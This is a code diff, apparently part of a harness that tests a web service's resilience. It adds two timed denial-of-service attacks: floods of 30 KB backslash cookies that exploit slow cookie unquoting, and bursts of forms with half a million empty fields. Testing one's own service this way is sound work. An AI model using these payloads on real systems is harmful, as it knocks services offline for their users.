@@ -116,6 +116,28 @@ async def a_body_that_drips(target: Target) -> str:
     return f"401 before the body; {told}"
 
 
+@attack(Position.OUTSIDER, timed=True)
+async def cookies_that_take_long_to_be_read(target: Target) -> str:
+    """Send sixteen cookies of 30 KB of backslashes without a key, which some versions of Python unquote for seconds."""
+    cookie = "\\" * 30_000
+    head = f'GET /problems HTTP/1.1\r\nHost: towpath\r\nCookie: x="{cookie}"\r\n\r\n'
+    async with _connections(target, 16, head.encode()), target.client() as client:
+        return await _wait_of_a_user(client)
+
+
+@attack(Position.KEY_HOLDER, timed=True)
+async def forms_of_very_many_fields(target: Target) -> str:
+    """Send twenty forms of half a million empty fields to the console at once, with a key that may only read."""
+    async with target.client(scopes=["runs:read"]) as reader, target.client(project="bystander") as other:
+        headers = {"Origin": target.url, "Content-Type": "application/x-www-form-urlencoded"}
+        form = b"a&" * 500_000
+        sent = [asyncio.create_task(reader.post("/runs/bulk", content=form, headers=headers)) for _ in range(20)]
+        await asyncio.sleep(0.1)
+        told = await _wait_of_a_user(other)
+        codes = {answer.status_code for answer in await asyncio.gather(*sent)}
+    return f"{told}; forms are answered {codes}"
+
+
 @attack(Position.KEY_HOLDER, timed=True)
 async def streams_of_one_key(target: Target) -> str:
     """Open 1,050 event streams with a key that may only read; another key asks, and follows a run."""
